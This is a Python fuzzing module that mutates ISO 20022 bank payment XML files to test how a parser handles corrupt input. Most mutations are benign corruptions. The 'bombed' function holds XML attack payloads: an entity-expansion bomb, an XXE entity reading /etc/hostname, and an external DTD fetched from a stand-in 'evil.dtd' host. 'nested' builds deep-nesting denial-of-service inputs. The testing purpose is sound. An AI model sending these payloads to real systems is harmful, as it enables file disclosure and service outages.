"""Ways to spoil a bank's file: bytes, elements, amounts, namespaces, and what only an attacker would send."""

import copy
from collections.abc import Callable
from random import Random

from lxml import etree

AMOUNTS = (
    "0.00",
    "0.01",
    "-600.00",
    "600.001",
    "6e2",
    "999999999999.99",
    "9" * 18,
    "NaN",
    "",
    "๖๐๐.๐๐",
    " 600.00 ",
    "1",
)
NAMESPACE = b"urn:iso:std:iso:20022:tech:xsd:"
VERSIONS = (
    b"camt.054.001.02",
    b"camt.053.001.08",
    b"camt.054.001.08",
    b"pain.002.001.03",
    b"pain.001.001.03",
    b"x",
    b"",
)


def byte_changed(content: bytes, random: Random) -> bytes:
    """Change one to three bytes, of the file or of a value in it."""
    spoilt = bytearray(content)
    for _ in range(random.choice((1, 1, 1, 2, 3))):
        spoilt[random.randrange(len(spoilt))] = random.randrange(256)
    return bytes(spoilt)


def letter_changed(content: bytes, random: Random) -> bytes:
    """Change one letter or digit into another: the likeliest fault that stays well-formed."""
    places = [at for at, byte in enumerate(content) if chr(byte).isalnum()]
    at = random.choice(places)
    other = random.choice(b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    return content[:at] + bytes([other]) + content[at + 1 :]


def cut(content: bytes, random: Random) -> bytes:
    """Keep the beginning, or lose a piece in the middle, or say a piece twice."""
    start, end = sorted(random.sample(range(len(content)), 2))
    return random.choice((content[:start], content[:start] + content[end:], content[:end] + content[start:]))


def element_removed(content: bytes, random: Random) -> bytes:
    """Take one element away with all in it."""
    root, element = _any(content, random)
    element.getparent().remove(element)
    return etree.tostring(root)


def element_doubled(content: bytes, random: Random) -> bytes:
    """Put a copy of one element beside it."""
    root, element = _any(content, random)
    element.addnext(copy.deepcopy(element))
    return etree.tostring(root)


def siblings_shuffled(content: bytes, random: Random) -> bytes:
    """Put the children of one element into another order."""
    root, element = _any(content, random)
    above = element.getparent()
    children = list(above)
    random.shuffle(children)
    above[:] = children
    return etree.tostring(root)


def moved_elsewhere(content: bytes, random: Random) -> bytes:
    """Put one element where another was."""
    root, element = _any(content, random)
    _, other = root, random.choice(list(root.iter("*"))[2:])
    if other not in list(element.iter("*")):
        other.addnext(copy.deepcopy(element))
        element.getparent().remove(element)
    return etree.tostring(root)


def amount_changed(content: bytes, random: Random) -> bytes:
    """Put another amount, possible or not, into one place, or everywhere that amount stands."""
    root = etree.fromstring(content)
    places = [one for one in root.iter("{*}Amt", "{*}Sum", "{*}InstdAmt") if one.text]
    if not places:
        return letter_changed(content, random)
    text = random.choice(AMOUNTS)
    one = random.choice(places)
    if random.random() < 0.5 and one.text is not None:
        return content.replace(f">{one.text}<".encode(), f">{text}<".encode())
    one.text = text
    return etree.tostring(root)


def currency_changed(content: bytes, random: Random) -> bytes:
    """Name another currency in one place, or in all."""
    return content.replace(b'"THB"', random.choice((b'"USD"', b'"thb"', b'""')), random.choice((1, -1)))


def namespace_changed(content: bytes, random: Random) -> bytes:
    """Say that this is another message."""
    start = content.index(NAMESPACE) + len(NAMESPACE)
    return content[:start] + random.choice(VERSIONS) + content[start + len(b"camt.054.001.08") :]


def bombed(content: bytes, random: Random) -> bytes:
    """Add entities that grow, or that fetch a file."""
    growing = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 9))
    bomb = random.choice(
        (
            f'<!DOCTYPE d [<!ENTITY e0 "x">{growing}]>',
            '<!DOCTYPE d [<!ENTITY e8 SYSTEM "file:///etc/hostname">]>',
            '<!DOCTYPE d SYSTEM "http://192.0.2.1/evil.dtd">',
        )
    ).encode()
    spoilt = content.replace(b"<Document", bomb + b"<Document", 1)
    return spoilt.replace(b"<MsgId>", b"<MsgId>&e8;", 1)


def nested(content: bytes, random: Random) -> bytes:
    """Nest elements without end, or put a value of megabytes in."""
    if random.random() < 0.5:
        depth = random.choice((50, 300, 20_000))
        return content.replace(b"<GrpHdr>", b"<a>" * depth + b"</a>" * depth + b"<GrpHdr>", 1)
    return content.replace(b"<MsgId>", b"<MsgId>" + b"9" * random.choice((100, 1_000_000)), 1)


def recoded(content: bytes, random: Random) -> bytes:
    """Send it in another encoding, or say that it is in one."""
    text = content.decode()
    return random.choice(
        (
            text.encode("utf-16"),
            content.replace(b'encoding="UTF-8"', b'encoding="TIS-620"'),
            b"\xef\xbb\xbf" + content,
            content.replace(b"<MsgId>", "<MsgId>ก".encode("cp874"), 1),
        )
    )


WAYS: tuple[Callable[[bytes, Random], bytes], ...] = (
    byte_changed,
    letter_changed,
    letter_changed,
    letter_changed,
    cut,
    element_removed,
    element_doubled,
    siblings_shuffled,
    moved_elsewhere,
    amount_changed,
    amount_changed,
    currency_changed,
    namespace_changed,
    bombed,
    nested,
    recoded,
)


def _any(content: bytes, random: Random) -> tuple[etree._Element, etree._Element]:
    root = etree.fromstring(content)
    # Not the document and not its body: without them little is left to be misread.
    return root, random.choice(list(root.iter("*"))[2:])
